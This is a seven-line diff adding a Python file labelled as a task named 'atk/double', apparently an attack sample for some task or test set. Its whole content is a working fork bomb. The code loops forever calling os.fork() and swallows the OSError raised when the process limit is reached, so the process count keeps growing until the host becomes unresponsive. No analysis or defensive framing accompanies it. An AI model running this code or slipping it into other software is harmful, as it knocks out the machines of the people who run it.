@@ -1,0 +1,7 @@
+# task: atk/double
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
